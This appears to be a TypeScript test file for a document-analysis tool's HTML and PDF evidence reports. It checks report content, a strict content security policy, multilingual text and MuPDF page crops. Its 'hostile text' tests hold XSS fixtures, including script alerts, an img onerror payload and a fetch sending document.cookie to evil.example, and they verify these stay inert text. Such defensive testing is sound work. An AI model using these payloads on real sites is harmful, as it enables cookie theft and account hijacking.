// The evidence report, HTML and PDF, from a real library (triage, notes, a reviewer's highlight)
// and from a file analysed on the spot: the HTML parsed back holds the identity, every finding
// with its crop, every note; the PDF read back with pdf.js has the same text; hostile text in
// quotes, notes and file names stays text; Chinese and German survive both formats.
import { DomUtils, parseDocument } from 'htmlparser2';
import type { Document, Element } from 'domhandler';
import { describe, expect, it } from 'vitest';
import { evidenceFromLibrary, type EvidenceDocument } from '../../../main/export/evidence-source';
import { renderCrops } from '../../../main/export/report-crops';
import { reportCsp } from '../../../main/export/report-html';
import { makeReport } from '../../../main/export/report-render';
import { extractPdf } from '../../../main/extract/extract-pdf';
import { LibraryStore } from '../../../main/store/library-store';
import { cropRegion, cropTargets, CROP_SCALE } from '../../../shared/export/report-crops';
import type { DocumentDetail, StoredFinding } from '../../../shared/model/library';
import { analyseFixture, DOCUMENT_NOTE, HIGHLIGHT_NOTE, makeLibrary, NOTE_TEXT } from './helpers';

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

async function libraryEvidence(): Promise<EvidenceDocument> {
  const library = await makeLibrary();
  const store = await LibraryStore.open(library.dir);
  try {
    return await evidenceFromLibrary(store, library.sha256, new Date('2026-02-01T10:00:00Z'));
  } finally {
    await store.close();
  }
}

function html(bytes: Uint8Array): { text: string; dom: Document } {
  const text = new TextDecoder().decode(bytes);
  return { text, dom: parseDocument(text) };
}

function all(dom: Document, test: (e: Element) => boolean): Element[] {
  return DomUtils.findAll(test, dom.children);
}

function textOf(node: Element | Document): string {
  return DomUtils.textContent(node).replace(/\s+/g, ' ');
}

async function pdfText(bytes: Uint8Array): Promise<string> {
  const pdf = await extractPdf(bytes);
  return pdf.pages.map((p) => p.text).join('\n');
}

/** Text as pdf.js reads a wrapped paragraph back: line breaks and spacing collapsed. */
function squash(text: string): string {
  return text.replace(/\s+/g, '');
}

describe('HTML report of a library document', () => {
  it('holds the identity, every finding with its crop, triage and every note', async () => {
    const evidence = await libraryEvidence();
    const { bytes, warnings } = await makeReport([evidence], 'html');
    expect(warnings).toEqual([]);
    const { text, dom } = html(bytes);
    const body = textOf(dom);
    const { meta } = evidence.detail;

    expect(body).toContain(meta.fileName);
    expect(body).toContain(meta.sha256);
    expect(body).toContain(`claimlens ${evidence.tool.version}`);
    expect(body).toContain(evidence.engine);
    for (const pack of evidence.rulePacks) expect(body).toContain(pack.sha256);
    expect(body).toContain('verified against its SHA-256 when the report was made');
    expect(body).toContain('Added to the library');

    const articles = all(dom, (e) => e.name === 'article' && 'data-finding-id' in e.attribs);
    expect(articles.map((a) => a.attribs['data-finding-id']).sort()).toEqual(
      evidence.detail.findings.map((f) => f.finding.id).sort(),
    );
    for (const stored of evidence.detail.findings) {
      const article = articles.find((a) => a.attribs['data-finding-id'] === stored.finding.id)!;
      const mark = DomUtils.findOne((e) => e.name === 'mark', article.children)!;
      expect(DomUtils.textContent(mark)).toBe(stored.finding.quote);
      expect(textOf(article)).toContain(stored.finding.explanation);
      const img = DomUtils.findOne((e) => e.name === 'img', article.children);
      expect(img?.attribs.src).toMatch(/^data:image\/png;base64,/);
    }

    const confirmed = evidence.detail.findings.find((f) => f.status === 'confirmed')!;
    const confirmedArticle = articles.find(
      (a) => a.attribs['data-finding-id'] === confirmed.finding.id,
    )!;
    expect(textOf(confirmedArticle)).toContain('Confirmed by Ada Lawyer');
    expect(textOf(confirmedArticle)).toContain(NOTE_TEXT);
    expect(body).toContain('Dismissed by Ada Lawyer');

    const highlight = all(dom, (e) => 'data-highlight-id' in e.attribs);
    expect(highlight).toHaveLength(1);
    expect(textOf(highlight[0]!)).toContain(HIGHLIGHT_NOTE);
    expect(body).toContain(DOCUMENT_NOTE);

    // The chart: one bar a category and severity present.
    const bars = all(dom, (e) => e.name === 'rect' && e.children.length > 0);
    const categories = new Set(evidence.detail.findings.map((f) => f.finding.category));
    expect(bars.length).toBeGreaterThanOrEqual(categories.size);

    // Self-contained and inert: the CSP, no script, nothing fetched from outside.
    const csp = all(dom, (e) => e.name === 'meta' && e.attribs['http-equiv'] !== undefined);
    const style = DomUtils.textContent(all(dom, (e) => e.name === 'style')[0]!);
    expect(csp[0]?.attribs.content).toBe(reportCsp(style));
    expect(reportCsp(style)).toMatch(
      /^default-src 'none'; img-src data:; font-src data:; style-src 'sha256-/,
    );
    expect(
      all(dom, (e) => e.name === 'script' || e.name === 'link' || e.name === 'iframe'),
    ).toEqual([]);
    for (const img of all(dom, (e) => e.name === 'img')) {
      expect(img.attribs.src?.startsWith('data:image/png;base64,')).toBe(true);
    }
    expect(text).not.toMatch(/\bstyle="/);
  });
});

describe('PDF report of a library document', () => {
  it('reads back with pdf.js: identity, findings, triage and notes', async () => {
    const evidence = await libraryEvidence();
    const { bytes } = await makeReport([evidence], 'pdf');
    expect(new TextDecoder().decode(bytes.subarray(0, 5))).toBe('%PDF-');
    const text = squash(await pdfText(bytes));
    const { meta } = evidence.detail;
    expect(text).toContain(squash(meta.fileName));
    expect(text).toContain(meta.sha256);
    expect(text).toContain(squash(`Engine ${evidence.engine}`));
    for (const stored of evidence.detail.findings) {
      expect(text).toContain(squash(stored.finding.quote));
      expect(text).toContain(squash(stored.finding.title));
    }
    expect(text).toContain(squash(NOTE_TEXT));
    expect(text).toContain(squash(HIGHLIGHT_NOTE));
    expect(text).toContain(squash(DOCUMENT_NOTE));
    expect(text).toContain(squash('Confirmed by Ada Lawyer'));
    expect(text).toContain(squash(`Findings (${evidence.detail.findings.length})`));
  });
});

/** A finding of the fixture with its text replaced. */
function withText(stored: StoredFinding, sentence: string, quote: string): StoredFinding {
  return { ...stored, finding: { ...stored.finding, sentence, quote } };
}

const HOSTILE_QUOTE = '"><img src=x onerror=alert(1)>';
const HOSTILE_SENTENCE = `Our camera </style><script>alert(document.cookie)</script> does ${HOSTILE_QUOTE} too.`;
const HOSTILE_NOTE = `</textarea><script>fetch('https://evil.example/'+document.cookie)</script>"><img src=x onerror=alert(2)>`;

async function hostileEvidence(): Promise<EvidenceDocument> {
  const base = await analyseFixture();
  const [first, second, ...rest] = base.detail.findings;
  const detail: DocumentDetail = {
    ...base.detail,
    meta: { ...base.detail.meta, fileName: '<b onmouseover=alert(3)>brochure</b>.pdf' },
    findings: [withText(first!, HOSTILE_SENTENCE, HOSTILE_QUOTE), second!, ...rest],
    notes: [
      {
        id: 'n1',
        targetId: first!.finding.id,
        text: HOSTILE_NOTE,
        author: '<script>alert(4)</script>',
        createdAt: '2026-02-01T10:00:00.000Z',
        updatedAt: '2026-02-01T10:00:00.000Z',
      },
    ],
  };
  return { ...base, detail };
}

describe('hostile text', () => {
  it('stays text in the HTML report: no element, attribute or style comes from the document', async () => {
    const evidence = await hostileEvidence();
    const { bytes } = await makeReport([evidence], 'html');
    const { dom } = html(bytes);
    expect(all(dom, (e) => e.name === 'script' || e.name === 'b' || e.name === 'textarea')).toEqual(
      [],
    );
    for (const img of all(dom, (e) => e.name === 'img')) {
      expect(Object.keys(img.attribs).sort()).toEqual(['alt', 'height', 'src', 'width']);
      expect(img.attribs.src).toMatch(/^data:image\/png;base64,/);
    }
    expect(all(dom, (e) => Object.keys(e.attribs).some((a) => a.startsWith('on')))).toEqual([]);
    // One style element, whole: "</style>" in a quote did not end it.
    const styles = all(dom, (e) => e.name === 'style');
    expect(styles).toHaveLength(1);
    expect(DomUtils.textContent(styles[0]!)).not.toContain('alert');

    const body = textOf(dom);
    expect(body).toContain(HOSTILE_SENTENCE);
    expect(body).toContain(HOSTILE_NOTE);
    expect(body).toContain('<script>alert(4)</script>');
    expect(body).toContain('<b onmouseover=alert(3)>brochure</b>.pdf');
    const hostileId = evidence.detail.findings[0]!.finding.id;
    const article = all(dom, (e) => e.attribs['data-finding-id'] === hostileId)[0]!;
    const mark = DomUtils.findOne((e) => e.name === 'mark', article.children)!;
    expect(DomUtils.textContent(mark)).toBe(HOSTILE_QUOTE);
  });

  it('is printed as text in the PDF report', async () => {
    const evidence = await hostileEvidence();
    const { bytes } = await makeReport([evidence], 'pdf');
    const text = squash(await pdfText(bytes));
    expect(text).toContain(squash(HOSTILE_SENTENCE));
    expect(text).toContain(squash(HOSTILE_NOTE));
  });
});

describe('Chinese and German text', () => {
  const CHINESE = '该系统支持人脸识别和民族识别，可按维吾尔族筛选。';
  const GERMAN = 'Gesichtserkennung für Überwachungskameras — geprüft von Jürgen Weiß.';

  async function multilingual(): Promise<EvidenceDocument> {
    const base = await analyseFixture();
    const [first, ...rest] = base.detail.findings;
    return {
      ...base,
      detail: {
        ...base.detail,
        findings: [withText(first!, CHINESE, '民族识别'), ...rest],
        notes: [
          {
            id: 'n-de',
            targetId: first!.finding.id,
            text: GERMAN,
            author: 'Jürgen Weiß',
            createdAt: '2026-02-01T10:00:00.000Z',
            updatedAt: '2026-02-01T11:30:00.000Z',
          },
        ],
      },
    };
  }

  it('appears in the HTML and, with the embedded font, in the PDF', async () => {
    const evidence = await multilingual();
    const { dom } = html((await makeReport([evidence], 'html')).bytes);
    const page = textOf(dom);
    expect(page).toContain(CHINESE);
    // The report carries the font for them, for readers whose system has no Chinese font.
    const style = DomUtils.textContent(all(dom, (e) => e.name === 'style')[0]!);
    expect(style).toContain("font-family: 'ClaimLens Noto Sans SC'");
    expect(style).toMatch(/url\(data:font\/ttf;base64,/);
    expect(page).toContain(GERMAN);
    // Analysed on the spot: no library, so no library dates and no verification claimed.
    expect(page).toContain('hashed when read for this report (not from a library)');
    expect(page).not.toContain('Added to the library');
    expect(page).toContain('Jürgen Weiß, 2026-02-01 10:00 UTC, edited 2026-02-01 11:30 UTC');

    const { bytes } = await makeReport([evidence], 'pdf');
    const text = squash(await pdfText(bytes));
    expect(text).toContain(squash(CHINESE));
    expect(text).toContain(squash(GERMAN));
    // A subset of the font, not the 10 MB face.
    expect(bytes.length).toBeLessThan(2_500_000);
  });
});

describe('crops drawn with MuPDF for the command line', () => {
  it('gives a PNG of each finding region at the page scale', async () => {
    const evidence = await analyseFixture();
    const targets = cropTargets(evidence.detail);
    expect(targets.length).toBe(evidence.detail.findings.length);
    const { crops, warnings } = await renderCrops(evidence.bytes, targets);
    expect(warnings).toEqual([]);
    expect(crops.size).toBe(targets.length);
    for (const target of targets) {
      const crop = crops.get(target.id)!;
      expect([...crop.png.subarray(0, 8)]).toEqual(PNG_SIGNATURE);
      const region = cropRegion(target.quads, [0, 0, 612, 792])!;
      // Pixel size follows the region in PDF points at CROP_SCALE (within rounding).
      expect(Math.abs(crop.width - (region[2] - region[0]) * CROP_SCALE)).toBeLessThanOrEqual(2);
      expect(Math.abs(crop.height - (region[3] - region[1]) * CROP_SCALE)).toBeLessThanOrEqual(2);
    }
  });

  it('leaves the images out of a file that is not a PDF, and says nothing is wrong', async () => {
    const evidence = await analyseFixture();
    const { crops, warnings } = await renderCrops(
      new TextEncoder().encode('plain text brochure'),
      cropTargets(evidence.detail),
    );
    expect(crops.size).toBe(0);
    expect(warnings).toEqual([]);
  });

  it('says in one line that a damaged PDF gave no images, and keeps the findings', async () => {
    const evidence = await analyseFixture();
    const damaged = new TextEncoder().encode('%PDF-1.7\n1 0 obj << /Type /Catalog >>\n%%EOF\n');
    const { crops, warnings } = await renderCrops(damaged, cropTargets(evidence.detail));
    expect(crops.size).toBe(0);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/MuPDF/);
    const report = await makeReport([{ ...evidence, bytes: damaged, warnings: [] }], 'html');
    // MuPDF's own words vary from run to run (it folds repeats); the report says which pages.
    const page = textOf(html(report.bytes).dom);
    expect(page).toContain('MuPDF could not draw pages 1, 2, 3');
    expect(report.warnings).toHaveLength(1);
    expect(report.warnings[0]).toMatch(
      new RegExp(`^${evidence.detail.meta.fileName.replace('.', '\\.')}: MuPDF could not draw`),
    );
  });

  it('keeps a crop inside the page and wide enough to read', () => {
    const page = [0, 0, 612, 792] as const;
    const atEdge = cropRegion([[600, 790, 611, 790, 600, 780, 611, 780]], page)!;
    expect(atEdge[2]).toBeLessThanOrEqual(612);
    expect(atEdge[3]).toBeLessThanOrEqual(792);
    expect(atEdge[2] - atEdge[0]).toBeGreaterThanOrEqual(320);
    expect(cropRegion([], page)).toBeNull();
  });
});
